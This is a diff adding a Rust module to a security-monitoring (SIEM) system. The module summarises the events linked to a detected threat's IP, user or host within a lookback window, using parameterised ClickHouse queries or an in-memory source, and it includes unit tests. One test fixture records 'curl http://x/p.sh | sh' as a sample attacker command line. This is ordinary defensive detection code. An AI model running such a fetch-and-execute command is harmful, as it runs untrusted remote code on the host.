@@ -0,0 +1,408 @@
+use std::collections::BTreeMap;
+use std::sync::Arc;
+use std::time::Duration;
+use chrono::{DateTime, Utc};
+use futures_util::future::BoxFuture;
+use serde::{Deserialize, Serialize};
+
+use crate::advanced_threat_detection::AdvancedThreatResult;
+use crate::error_handling::{SIEMError, SIEMResult};
+#[cfg(feature = "api")]
+use crate::query_builder::{Expr, Op, Param, QueryBuilder};
+#[cfg(feature = "api")]
+use crate::query_export::ClickHouseRowSource;
+
+/// ClickHouse `toString(DateTime)` layout, also used for in-memory events
+const TIME_FORMAT: &str = "%Y-%m-%d %H:%M:%S";
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct RelatedEventsSettings {
+    pub enabled: bool,
+    /// How far back from the detection to look
+    pub lookback_minutes: u64,
+    pub max_event_types: usize,
+    pub max_commands: usize,
+    /// Incidents are created without the summary when the lookup is slower
+    pub timeout_ms: u64,
+}
+
+impl Default for RelatedEventsSettings {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            lookback_minutes: 30,
+            max_event_types: 20,
+            max_commands: 5,
+            timeout_ms: 2000,
+        }
+    }
+}
+
+/// Events in `[since, until)` sharing any of the given entities
+#[derive(Debug, Clone, PartialEq)]
+pub struct RelatedQuery {
+    pub since: DateTime<Utc>,
+    pub until: DateTime<Utc>,
+    pub source_ip: Option<String>,
+    pub user: Option<String>,
+    pub hostname: Option<String>,
+}
+
+impl RelatedQuery {
+    /// `column=value` pairs the query matches on
+    pub fn entities(&self) -> Vec<(&'static str, &str)> {
+        [("source_ip", &self.source_ip), ("user", &self.user), ("hostname", &self.hostname)]
+            .into_iter()
+            .filter_map(|(column, value)| value.as_deref().map(|v| (column, v)))
+            .collect()
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct EventTypeCount {
+    pub event_type: String,
+    pub count: u64,
+    pub first_seen: String,
+    pub last_seen: String,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct CommandCount {
+    pub command_line: String,
+    pub count: u64,
+}
+
+/// One matching event, newest first in listings
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct RelatedEvent {
+    pub timestamp: String,
+    pub event_type: String,
+    pub source_ip: String,
+    pub user: String,
+    pub hostname: String,
+    pub command_line: String,
+}
+
+/// Compact view of what the entities of an incident did just before it
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct RelatedEventsSummary {
+    pub window_start: DateTime<Utc>,
+    pub window_end: DateTime<Utc>,
+    /// `column=value` pairs events were matched on
+    pub matched_on: Vec<String>,
+    pub total_events: u64,
+    pub first_seen: Option<String>,
+    pub last_seen: Option<String>,
+    /// Most frequent first
+    pub event_types: Vec<EventTypeCount>,
+    pub notable_commands: Vec<CommandCount>,
+}
+
+/// Where recent events are looked up
+pub trait RelatedEventSource: Send + Sync {
+    fn event_types<'a>(&'a self, query: &'a RelatedQuery, limit: usize) -> BoxFuture<'a, SIEMResult<Vec<EventTypeCount>>>;
+    fn commands<'a>(&'a self, query: &'a RelatedQuery, limit: usize) -> BoxFuture<'a, SIEMResult<Vec<CommandCount>>>;
+    /// The events themselves, newest first; all event types when `event_types` is empty
+    fn events<'a>(&'a self, query: &'a RelatedQuery, event_types: &'a [String], limit: usize) -> BoxFuture<'a, SIEMResult<Vec<RelatedEvent>>>;
+}
+
+#[cfg(feature = "api")]
+impl ClickHouseRowSource {
+    fn related_events(&self, query: &RelatedQuery) -> QueryBuilder {
+        let entities = query
+            .entities()
+            .into_iter()
+            .map(|(column, value)| (Expr::column(column), Op::Eq, Param::String(value.to_string())))
+            .collect();
+        QueryBuilder::new(self.database(), "events")
+            .filter(Expr::column("timestamp"), Op::Ge, Param::DateTime(query.since.format(TIME_FORMAT).to_string()))
+            .filter(Expr::column("timestamp"), Op::Lt, Param::DateTime(query.until.format(TIME_FORMAT).to_string()))
+            .filter_any(entities)
+    }
+
+    async fn decode_rows<T: serde::de::DeserializeOwned>(&self, builder: QueryBuilder) -> SIEMResult<Vec<T>> {
+        let query = builder
+            .format("JSONEachRow")
+            .setting("output_format_json_quote_64bit_integers", "0")
+            .build()?;
+        self.query_rows(query.sql, &query.params)
+            .await?
+            .into_iter()
+            .map(|row| serde_json::from_value(serde_json::Value::Object(row)).map_err(SIEMError::from))
+            .collect()
+    }
+}
+
+#[cfg(feature = "api")]
+impl RelatedEventSource for ClickHouseRowSource {
+    fn event_types<'a>(&'a self, query: &'a RelatedQuery, limit: usize) -> BoxFuture<'a, SIEMResult<Vec<EventTypeCount>>> {
+        Box::pin(async move {
+            let builder = self
+                .related_events(query)
+                .select(Expr::column("event_type"), None)
+                .select(Expr::Count, Some("count"))
+                .select(Expr::ToString(Box::new(Expr::Min("timestamp".to_string()))), Some("first_seen"))
+                .select(Expr::ToString(Box::new(Expr::Max("timestamp".to_string()))), Some("last_seen"))
+                .group_by(Expr::column("event_type"))
+                .order_by(Expr::column("count"), true)
+                .limit(limit);
+            self.decode_rows(builder).await
+        })
+    }
+
+    fn commands<'a>(&'a self, query: &'a RelatedQuery, limit: usize) -> BoxFuture<'a, SIEMResult<Vec<CommandCount>>> {
+        Box::pin(async move {
+            let builder = self
+                .related_events(query)
+                .filter(Expr::column("command_line"), Op::Ne, Param::String(String::new()))
+                .select(Expr::column("command_line"), None)
+                .select(Expr::Count, Some("count"))
+                .group_by(Expr::column("command_line"))
+                .order_by(Expr::column("count"), true)
+                .limit(limit);
+            self.decode_rows(builder).await
+        })
+    }
+
+    fn events<'a>(&'a self, query: &'a RelatedQuery, event_types: &'a [String], limit: usize) -> BoxFuture<'a, SIEMResult<Vec<RelatedEvent>>> {
+        Box::pin(async move {
+            let mut builder = self.related_events(query);
+            if !event_types.is_empty() {
+                builder = builder.filter_in(Expr::column("event_type"), event_types.iter().map(|t| Param::String(t.clone())).collect());
+            }
+            let builder = ["event_type", "source_ip", "user", "hostname", "command_line"]
+                .into_iter()
+                .fold(builder.select(Expr::ToString(Box::new(Expr::column("timestamp"))), Some("timestamp")), |builder, column| {
+                    builder.select(Expr::column(column), None)
+                })
+                .order_by(Expr::column("timestamp"), true)
+                .limit(limit);
+            self.decode_rows(builder).await
+        })
+    }
+}
+
+/// One event held in memory, e.g. for tests and offline replays
+#[derive(Debug, Clone, Default)]
+pub struct RelatedEventRow {
+    pub timestamp: DateTime<Utc>,
+    pub event_type: String,
+    pub source_ip: String,
+    pub user: String,
+    pub hostname: String,
+    pub command_line: String,
+}
+
+#[derive(Debug, Clone, Default)]
+pub struct MemoryEventSource {
+    events: Vec<RelatedEventRow>,
+}
+
+impl MemoryEventSource {
+    pub fn new(events: Vec<RelatedEventRow>) -> Self {
+        Self { events }
+    }
+
+    fn matching<'a>(&'a self, query: &'a RelatedQuery) -> impl Iterator<Item = &'a RelatedEventRow> {
+        self.events.iter().filter(move |event| {
+            event.timestamp >= query.since
+                && event.timestamp < query.until
+                && query.entities().iter().any(|(column, value)| match *column {
+                    "source_ip" => event.source_ip == *value,
+                    "user" => event.user == *value,
+                    _ => event.hostname == *value,
+                })
+        })
+    }
+}
+
+impl RelatedEventSource for MemoryEventSource {
+    fn event_types<'a>(&'a self, query: &'a RelatedQuery, limit: usize) -> BoxFuture<'a, SIEMResult<Vec<EventTypeCount>>> {
+        Box::pin(async move {
+            let mut types: BTreeMap<&str, (u64, DateTime<Utc>, DateTime<Utc>)> = BTreeMap::new();
+            for event in self.matching(query) {
+                let entry = types.entry(&event.event_type).or_insert((0, event.timestamp, event.timestamp));
+                entry.0 += 1;
+                entry.1 = entry.1.min(event.timestamp);
+                entry.2 = entry.2.max(event.timestamp);
+            }
+            let mut counts: Vec<EventTypeCount> = types
+                .into_iter()
+                .map(|(event_type, (count, first, last))| EventTypeCount {
+                    event_type: event_type.to_string(),
+                    count,
+                    first_seen: first.format(TIME_FORMAT).to_string(),
+                    last_seen: last.format(TIME_FORMAT).to_string(),
+                })
+                .collect();
+            counts.sort_by_key(|c| std::cmp::Reverse(c.count));
+            counts.truncate(limit);
+            Ok(counts)
+        })
+    }
+
+    fn commands<'a>(&'a self, query: &'a RelatedQuery, limit: usize) -> BoxFuture<'a, SIEMResult<Vec<CommandCount>>> {
+        Box::pin(async move {
+            let mut commands: BTreeMap<&str, u64> = BTreeMap::new();
+            for event in self.matching(query).filter(|e| !e.command_line.is_empty()) {
+                *commands.entry(&event.command_line).or_default() += 1;
+            }
+            let mut counts: Vec<CommandCount> = commands
+                .into_iter()
+                .map(|(command_line, count)| CommandCount { command_line: command_line.to_string(), count })
+                .collect();
+            counts.sort_by_key(|c| std::cmp::Reverse(c.count));
+            counts.truncate(limit);
+            Ok(counts)
+        })
+    }
+
+    fn events<'a>(&'a self, query: &'a RelatedQuery, event_types: &'a [String], limit: usize) -> BoxFuture<'a, SIEMResult<Vec<RelatedEvent>>> {
+        Box::pin(async move {
+            let mut events: Vec<&RelatedEventRow> = self
+                .matching(query)
+                .filter(|e| event_types.is_empty() || event_types.contains(&e.event_type))
+                .collect();
+            events.sort_by_key(|e| std::cmp::Reverse(e.timestamp));
+            Ok(events
+                .into_iter()
+                .take(limit)
+                .map(|e| RelatedEvent {
+                    timestamp: e.timestamp.format(TIME_FORMAT).to_string(),
+                    event_type: e.event_type.clone(),
+                    source_ip: e.source_ip.clone(),
+                    user: e.user.clone(),
+                    hostname: e.hostname.clone(),
+                    command_line: e.command_line.clone(),
+                })
+                .collect())
+        })
+    }
+}
+
+/// Summarizes recent events of an incident's source, user and host
+pub struct RelatedEventsEnricher {
+    settings: RelatedEventsSettings,
+    source: Arc<dyn RelatedEventSource>,
+}
+
+impl std::fmt::Debug for RelatedEventsEnricher {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("RelatedEventsEnricher").field("settings", &self.settings).finish_non_exhaustive()
+    }
+}
+
+impl RelatedEventsEnricher {
+    pub fn new(settings: RelatedEventsSettings, source: Arc<dyn RelatedEventSource>) -> Self {
+        Self { settings, source }
+    }
+
+    pub fn settings(&self) -> &RelatedEventsSettings {
+        &self.settings
+    }
+
+    /// Lookback window ending at the detection; `None` when the threat names no entity
+    pub fn query_for(&self, threat: &AdvancedThreatResult, now: DateTime<Utc>) -> Option<RelatedQuery> {
+        let non_empty = |value: Option<&String>| value.filter(|v| !v.is_empty()).cloned();
+        let detected_at = DateTime::from_timestamp(threat.timestamp as i64, 0).filter(|_| threat.timestamp > 0).unwrap_or(now);
+        let query = RelatedQuery {
+            since: detected_at - chrono::Duration::minutes(self.settings.lookback_minutes as i64),
+            // Include the second of the detection itself
+            until: detected_at + chrono::Duration::seconds(1),
+            source_ip: non_empty(Some(&threat.source_ip)),
+            user: non_empty(Some(&threat.user_id)),
+            hostname: non_empty(threat.details.get("hostname").or_else(|| threat.details.get("host"))),
+        };
+        (!query.entities().is_empty()).then_some(query)
+    }
+
+    pub async fn summarize(&self, threat: &AdvancedThreatResult, now: DateTime<Utc>) -> SIEMResult<Option<RelatedEventsSummary>> {
+        let Some(query) = self.query_for(threat, now) else {
+            return Ok(None);
+        };
+        let lookup = async {
+            let event_types = self.source.event_types(&query, self.settings.max_event_types).await?;
+            let notable_commands = self.source.commands(&query, self.settings.max_commands).await?;
+            SIEMResult::Ok((event_types, notable_commands))
+        };
+        let (event_types, notable_commands) = tokio::time::timeout(Duration::from_millis(self.settings.timeout_ms), lookup)
+            .await
+            .map_err(|_| SIEMError::Performance(format!("Related event lookup exceeded {}ms", self.settings.timeout_ms)))??;
+        Ok(Some(RelatedEventsSummary {
+            window_start: query.since,
+            window_end: query.until,
+            matched_on: query.entities().iter().map(|(column, value)| format!("{}={}", column, value)).collect(),
+            total_events: event_types.iter().map(|t| t.count).sum(),
+            first_seen: event_types.iter().map(|t| t.first_seen.clone()).min(),
+            last_seen: event_types.iter().map(|t| t.last_seen.clone()).max(),
+            event_types,
+            notable_commands,
+        }))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use chrono::TimeZone;
+    use crate::query_builder::{Expr, Op, Param, QueryBuilder};
+
+    fn event(minutes: i64, event_type: &str, source_ip: &str, user: &str, command_line: &str) -> RelatedEventRow {
+        RelatedEventRow {
+            timestamp: Utc.with_ymd_and_hms(2024, 5, 1, 10, 0, 0).unwrap() + chrono::Duration::minutes(minutes),
+            event_type: event_type.to_string(),
+            source_ip: source_ip.to_string(),
+            user: user.to_string(),
+            hostname: "web-01".to_string(),
+            command_line: command_line.to_string(),
+        }
+    }
+
+    #[tokio::test]
+    async fn test_summary_counts_related_events_in_window() {
+        let events = vec![
+            event(5, "auth_failure", "203.0.113.7", "", ""),
+            event(10, "auth_failure", "203.0.113.7", "", ""),
+            event(12, "auth_success", "198.51.100.2", "alice", ""),
+            event(14, "process_start", "10.0.0.5", "alice", "curl http://x/p.sh | sh"),
+            event(15, "process_start", "10.0.0.5", "alice", "curl http://x/p.sh | sh"),
+            event(16, "process_start", "10.0.0.5", "bob", "whoami"),
+            // Outside the 30 minute lookback
+            event(-60, "auth_failure", "203.0.113.7", "", ""),
+        ];
+        let enricher = RelatedEventsEnricher::new(RelatedEventsSettings::default(), Arc::new(MemoryEventSource::new(events)));
+        let threat = AdvancedThreatResult {
+            timestamp: Utc.with_ymd_and_hms(2024, 5, 1, 10, 20, 0).unwrap().timestamp() as u64,
+            source_ip: "203.0.113.7".to_string(),
+            user_id: "alice".to_string(),
+            ..Default::default()
+        };
+
+        let summary = enricher.summarize(&threat, Utc::now()).await.unwrap().unwrap();
+        assert_eq!(summary.matched_on, vec!["source_ip=203.0.113.7", "user=alice"]);
+        assert_eq!(summary.total_events, 5);
+        assert_eq!((summary.event_types[0].event_type.as_str(), summary.event_types[0].count), ("auth_failure", 2));
+        assert_eq!(summary.first_seen.as_deref(), Some("2024-05-01 10:05:00"));
+        assert_eq!(summary.last_seen.as_deref(), Some("2024-05-01 10:15:00"));
+        assert_eq!(summary.notable_commands, vec![CommandCount { command_line: "curl http://x/p.sh | sh".to_string(), count: 2 }]);
+    }
+
+    #[tokio::test]
+    async fn test_threat_without_entities_is_not_enriched() {
+        let enricher = RelatedEventsEnricher::new(RelatedEventsSettings::default(), Arc::new(MemoryEventSource::default()));
+        assert!(enricher.summarize(&AdvancedThreatResult::default(), Utc::now()).await.unwrap().is_none());
+
+        // Entities are OR-ed, each bound as a parameter
+        let query = QueryBuilder::new("siem", "events")
+            .filter_any(vec![
+                (Expr::column("source_ip"), Op::Eq, Param::String("203.0.113.7".to_string())),
+                (Expr::column("user"), Op::Eq, Param::String("alice".to_string())),
+            ])
+            .build()
+            .unwrap();
+        assert!(query.sql.ends_with("WHERE (source_ip = {p0:String} OR user = {p1:String})"));
+        assert!(QueryBuilder::new("siem", "events").filter_any(Vec::new()).build().unwrap().sql.ends_with("WHERE 0"));
+    }
+}